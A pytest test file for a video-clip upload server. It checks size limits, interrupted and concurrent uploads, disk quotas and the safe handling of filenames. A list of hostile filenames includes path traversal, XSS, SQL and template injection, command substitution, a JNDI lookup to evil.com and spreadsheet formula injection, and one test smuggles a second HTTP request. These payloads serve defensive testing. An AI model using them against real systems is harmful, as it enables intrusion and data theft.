"""Clips that come in: too large, too slow, too many, oddly named, and onto a full disk."""

from __future__ import annotations

import json
import resource
import socket
import threading
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import quote

import psutil
import pytest

from tests.web.conftest import MAX_BYTES
from tests.web.serving import Serving, serving, status_of
from vatrace.web.limits import Limits
from vatrace.web.shelf import MAX_NAME_CHARACTERS, Refusal, Shelf, display_name

NASTY_NAMES = [
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "C:\\clip.mp4",
    "\\\\server\\share",
    "a/b/c.mp4",
    ".",
    "..",
    ".hidden",
    "~root",
    "-rf",
    "con.mp4",
    "nul",
    "clip.mp4::$DATA",
    "clip.mp4.",
    "%2e%2e%2f",
    "<script>alert(1)</script>.mp4",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "';DROP TABLE clips;--",
    "{{7*7}}",
    "${jndi:ldap://evil.com}",
    "$(touch evil)",
    "`touch evil`",
    "%s%n%x",
    "=cmd|' /C calc'!A1",
    "naïve café 日本語 👩‍👩‍👧.mp4",
    "a" * 5000,
    "{",
]


def folders(server: Serving) -> list[Path]:
    """What lies in the folder of the run, beside its lock."""
    (run_folder,) = server.files.iterdir()
    return [path for path in run_folder.iterdir() if path.name != ".running"]


def test_a_clip_that_says_it_is_too_large_is_refused_before_it_comes(server: Serving) -> None:
    head = (
        f"PUT /api/clips HTTP/1.1\r\nHost: {server.host}\r\nCookie: {server.cookie}\r\n"
        f"Content-Length: {MAX_BYTES + 1}\r\nExpect: 100-continue\r\n\r\n"
    )
    received = server.raw(head.encode())
    assert status_of(received) == 413
    assert b"larger than 1.90735 MB" in received  # 2,000,000 / 2^20


def test_a_clip_without_a_length_is_refused_and_takes_no_memory(server: Serving) -> None:
    before = psutil.Process(server.process.pid).memory_info().rss
    chunks = (bytes(65536) for _ in range(40 * 16))  # 40 MB of 2 MB
    answer = server.ask("PUT", "/api/clips", body=chunks)
    assert (answer.status, answer.json) == (411, {"error": "A clip is sent with its length."})
    assert psutil.Process(server.process.pid).memory_info().rss - before < 8 * 2**20
    assert folders(server) == []


def test_a_browser_that_goes_on_sending_still_gets_the_sentence(server: Serving) -> None:
    answer = server.ask("PUT", "/api/clips", body=bytes(20_000_000))
    assert (answer.status, list(answer.json)) == (413, ["error"])


def test_a_clip_that_breaks_off_leaves_nothing(server: Serving) -> None:
    head = f"PUT /api/clips HTTP/1.1\r\nHost: {server.host}\r\nCookie: {server.cookie}\r\nContent-Length: 99999\r\n\r\n"
    with socket.create_connection(("127.0.0.1", server.port)) as connection:
        connection.sendall(head.encode() + bytes(5000))
    assert status_of(server.raw(head.encode() + b"x")) == 408  # takes longer than it takes to notice the other
    assert folders(server) == []
    assert server.clips() == []


def test_more_than_was_announced_is_not_part_of_the_clip(server: Serving) -> None:
    head = f"PUT /api/clips HTTP/1.1\r\nHost: {server.host}\r\nCookie: {server.cookie}\r\nContent-Length: 4\r\n\r\n"
    received = server.raw(head.encode() + b"clipDELETE /api/clips HTTP/1.1\r\nHost: evil.com\r\n\r\n")
    assert status_of(received) == 201
    (folder,) = folders(server)
    assert (folder / "clip").read_bytes() == b"clip"
    server.remove_all()
    assert folders(server) == []


@pytest.mark.parametrize("name", NASTY_NAMES, ids=range(len(NASTY_NAMES)))
def test_a_name_is_shown_and_never_used(name: str, server: Serving) -> None:
    answer = server.send(b"no clip", quote(name, safe=""))
    assert answer.status == 201
    clip_id = answer.json["id"]
    (folder,) = folders(server)
    assert folder.name == clip_id
    assert set(clip_id) <= set("0123456789abcdef")
    assert [path.name for path in folder.iterdir()] == ["clip"]
    shown = server.wait_for(clip_id)
    assert shown["name"] == (name if len(name) <= MAX_NAME_CHARACTERS else "a" * (MAX_NAME_CHARACTERS - 1) + "…")
    assert shown["state"] == "failed"
    assert shown["error"].startswith(shown["name"]), "the sentence says the name it was sent under, and no path of ours"
    assert str(server.files) not in json.dumps(shown)
    server.remove_all()


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("a%0d%0aSet-Cookie%3a%20x", "a��Set-Cookie: x"),
        ("a%00b%1b%5b31m", "a�b�[31m"),
        ("fdp%E2%80%AEexe.mp4", "fdp�exe.mp4"),  # turns the text that follows around
        ("a%E2%80%A8b", "a�b"),  # line separator
        ("%ff%fe", "��"),
        ("", "clip"),
        ("%20%20", "clip"),
        ("%E2%80%8D", "\u200d"),
    ],
)
def test_what_cannot_be_seen_in_a_name_is_marked(given: str, shown: str) -> None:
    assert display_name(given) == shown


def test_of_a_hundred_uploads_at_once_those_that_fit_are_taken_and_the_server_goes_on(
    tmp_path: Path, tiny_model: Path, clip: Path
) -> None:
    with serving(tmp_path, tiny_model, uploads_at_once=4, max_clips=6) as server:
        everybody = threading.Barrier(100)

        def send(_: int) -> int:
            everybody.wait()
            return server.send(bytes(1_000_000)).status

        with ThreadPoolExecutor(100) as senders:
            counts = Counter(senders.map(send, range(100)))
        assert set(counts) <= {201, 429, 503}
        assert 1 <= counts[201] == len(server.clips()) <= 6
        assert len(folders(server)) == counts[201]
        refused = next(each for each in iter(lambda: server.send(b"x"), None) if each.status != 201)
        assert refused.status == 429
        assert refused.json["error"] == "There are 6 clips here, which is the most; remove one first."
        assert refused.headers["retry-after"] == "1"
        server.remove_all()
        assert server.wait_for(server.send(clip).json["id"])["error"] == ""


def test_what_all_clips_take_together_is_limited_too(tmp_path: Path) -> None:
    shelf = Shelf(tmp_path, Limits(quota_bytes=1000))
    with shelf.incoming("a", 600) as first:
        (first.folder / "clip").write_bytes(bytes(600))
        with pytest.raises(Refusal, match="would not fit; remove one first") as refused, shelf.incoming("b", 401):
            pass
    assert refused.value.status == 507
    (first.folder / "made of it").write_bytes(bytes(300))
    with pytest.raises(Refusal, match="would not fit"), shelf.incoming("b", 101):
        pass
    shelf.remove(first.id)
    with shelf.incoming("b", 1000):
        pass


def test_a_disk_that_is_nearly_full_takes_no_clip(tmp_path: Path) -> None:
    shelf = Shelf(tmp_path, Limits(spare_bytes=2**60, quota_bytes=2**62))
    with pytest.raises(Refusal, match="nearly full") as refused, shelf.incoming("a", 1):
        pass
    assert refused.value.status == 507
    assert list(tmp_path.iterdir()) == []


def test_a_disk_that_fills_up_while_a_clip_comes_gives_a_sentence_and_leaves_nothing(
    tmp_path: Path, tiny_model: Path
) -> None:
    def small_files() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (1_000_000, resource.RLIM_INFINITY))

    with serving(tmp_path, tiny_model, before=small_files, file_bytes=1_000_000) as server:
        answer = server.send(bytes(5_000_000))
        assert answer.status == 507
        assert "disk" in answer.json["error"]
        assert folders(server) == []
        assert server.send(bytes(500_000)).status == 201
